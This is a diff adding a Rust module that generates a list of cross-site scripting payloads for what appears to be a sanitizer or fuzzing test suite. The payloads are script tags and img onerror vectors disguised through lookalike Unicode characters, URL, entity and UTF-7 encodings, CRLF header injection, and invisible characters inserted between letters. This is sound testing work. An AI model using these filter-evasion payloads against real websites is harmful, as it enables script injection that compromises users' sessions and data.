@@ -1,0 +1,107 @@
+//! Characters that are filtered out, replaced, normalised, or taken for others: between the letters of something that runs.
+
+/// What is put between letters, where something might take it away.
+const BETWEEN: &[&str] = &[
+    "\0",
+    "\u{1}",
+    "\u{8}",
+    "\u{b}",
+    "\u{c}",
+    "\u{1b}",
+    "\u{7f}",
+    "\u{80}",
+    "\u{85}",
+    "\u{a0}",
+    "\u{ad}",
+    "\u{34f}",
+    "\u{115f}",
+    "\u{180e}",
+    "\u{200b}",
+    "\u{200c}",
+    "\u{200d}",
+    "\u{200e}",
+    "\u{202e}",
+    "\u{2028}",
+    "\u{2060}",
+    "\u{3164}",
+    "\u{fe00}",
+    "\u{feff}",
+    "\u{fffd}",
+    "\u{fffe}",
+    "\u{ffff}",
+    "\u{e0001}",
+    "\u{10ffff}",
+];
+
+/// Whole texts in other characters or encodings.
+const TEXTS: &[&str] = &[
+    "\u{ff1c}script\u{ff1e}@\u{ff1c}/script\u{ff1e}",
+    "\u{2039}script\u{203a}@\u{2039}/script\u{203a}",
+    "\u{3008}script\u{3009}@",
+    "\u{fe64}script\u{fe65}@\u{fe64}/script\u{fe65}",
+    "<\u{17f}cript>@</\u{17f}cript>",
+    "<scr\u{131}pt>@</scr\u{131}pt>",
+    "<\u{fb01}eld onload=@>",
+    "<script>@</script>\u{feff}",
+    "\u{feff}<script>@</script>",
+    "+ADw-script+AD4-@+ADw-/script+AD4-",
+    "\u{fffe}<script>@</script>",
+    "%3Cscript%3E@%3C/script%3E",
+    "%253Cscript%253E@%253C/script%253E",
+    "%u003Cscript%u003E@%u003C/script%u003E",
+    "\\u003cscript\\u003e@\\u003c/script\\u003e",
+    "\\x3cscript\\x3e@\\x3c/script\\x3e",
+    "\\74script\\76@\\74/script\\76",
+    "&lt;script&gt;@&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;@",
+    "&#60;script&#62;@&#60;/script&#62;",
+    "&#x3c;script&#x3e;@&#x3c;/script&#x3e;",
+    "&#x3cscript&#x3e@",
+    "&LT;script&GT;@",
+    "&lt;script&gt@",
+    "&#0;<script>@</script>",
+    "&#xd800;<script>@</script>",
+    "&#x110000;<img src=x onerror=@>",
+    "&<script>@</script>",
+    "&#<script>@</script>",
+    "&#x<script>@</script>",
+    "&amp<script>@</script>",
+    "&notit;<script>@</script>",
+    "\u{1f600}<script>@</script>\u{1f600}",
+    "e\u{301}<script>@</script>",
+    "\u{202e}<script>@</script>",
+    "\u{c0}\u{bc}script\u{c0}\u{be}@",
+    "\u{bc}script\u{be}@\u{bc}/script\u{be}",
+    "\x1b$B<script>@</script>",
+    "\x1b(J<script>@</script>",
+    "~{<script>@</script>~}",
+    "=?UTF-8?Q?<script>@</script>?=",
+    "x\r\nSet-Cookie: a=1\r\n\r\n<script>@</script>",
+    "x%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>@</script>",
+    "\r\n\r\n<html><script>@</script>",
+    "\u{560d}\u{560a}<script>@</script>",
+    "'\"()&%<acx><ScRiPt >@</ScRiPt>",
+    "\"';!--<x>=&{()}<script>@</script>",
+    "<script>@</script>                                                                                 ",
+    "\t\t\t<script>@</script>",
+];
+
+pub(super) fn payloads() -> Vec<String> {
+    let mut all: Vec<String> = TEXTS.iter().map(|text| (*text).to_owned()).collect();
+    for between in BETWEEN {
+        for text in [
+            "<~img src=x onerror=@>",
+            "<im~g src=x onerror=@>",
+            "<img~src=x~onerror=@>",
+            "<img src=x on~error=@>",
+            "<img src=x onerror~=@>",
+            "<img src=x onerror=~@>",
+            "<scr~ipt>@</scr~ipt>",
+            "\"~><script>@</script>",
+            "~<script>@</script>~",
+        ] {
+            all.push(text.replace('~', between));
+        }
+    }
+    all
+}
